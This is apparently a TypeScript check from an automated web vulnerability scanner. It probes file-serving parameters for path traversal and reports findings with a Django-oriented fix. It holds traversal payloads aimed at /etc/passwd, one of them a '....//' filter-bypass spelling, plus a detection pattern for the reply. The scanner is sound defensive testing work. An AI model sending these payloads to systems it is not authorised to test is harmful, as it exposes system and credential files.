/** Asks the views that serve files for one that lies outside their folder. */
import { endpointOf } from '../bind/site/detail.ts';
import { placeOf } from '../bind/table.ts';
import type { AttackContext, Weakness } from './attack.ts';
import { browserOf } from './forms.ts';
import { addressWith } from './parameters.ts';

/** On every POSIX system, and known by how it begins. */
const TARGET = `${'../'.repeat(12)}etc/passwd`;
const SPELLINGS = [TARGET, `/${TARGET.replaceAll('../', '')}`, TARGET.replaceAll('../', '....//')];
const NAMES = /file|path|doc|name|download|image|picture|page|template|attachment/i;

export async function readOutside(context: AttackContext): Promise<Weakness[]> {
  const found: Weakness[] = [];
  for (const parameter of context.surface.parameters) {
    if (parameter.template === null && !NAMES.test(parameter.name)) continue;
    for (const spelling of SPELLINGS) {
      const address = addressWith(parameter, spelling);
      const { last } = await (await browserOf(context, 'alice')).visit(address);
      if (!/^root:[^:]*:0:0:/m.test(last.reply.body)) continue;
      const endpoint = await endpointOf(context.tools, address.split('?')[0] ?? address);
      found.push({
        summary: `${parameter.path} gives out any file of the machine.`,
        expected: 'only files of the folder for uploads are served',
        actual: `asked for ${spelling}, it answered with the file of the accounts of the machine`,
        danger: 'Settings, keys and the database can be downloaded by anybody.',
        fix: 'Open files through the storage (default_storage.open), or safe_join() the folder with the name; never os.path.join() with what a visitor wrote.',
        proof: last,
        place: endpoint === null ? null : placeOf(endpoint),
      });
      break;
    }
  }
  return found;
}
